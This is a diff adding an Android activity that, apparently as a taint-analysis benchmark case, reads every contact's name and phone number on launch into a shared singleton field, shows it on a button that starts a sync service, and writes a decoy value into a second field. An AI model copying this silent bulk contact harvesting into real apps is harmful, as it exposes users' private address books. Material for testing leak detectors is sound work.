@@ -1,0 +1,31 @@
+package com.example.samefield;
+
+import android.app.Activity;
+import android.content.Intent;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract.CommonDataKinds.Phone;
+import android.widget.Button;
+
+/** Shows the book on the button, which starts the service. */
+public class MainActivity extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        readAll();
+        Button button = new Button(this);
+        button.setText(Session.get().book);
+        button.setOnClickListener(view -> startService(new Intent(this, SyncService.class)));
+        setContentView(button);
+    }
+
+    private void readAll() {
+        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
+        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
+        while (cursor.moveToNext()) {
+            Session.get().book += cursor.getString(0) + "," + cursor.getString(1) + "\n";
+        }
+        cursor.close();
+        Manual.get().book = "page " + (int) (Math.random() * 9);
+    }
+}
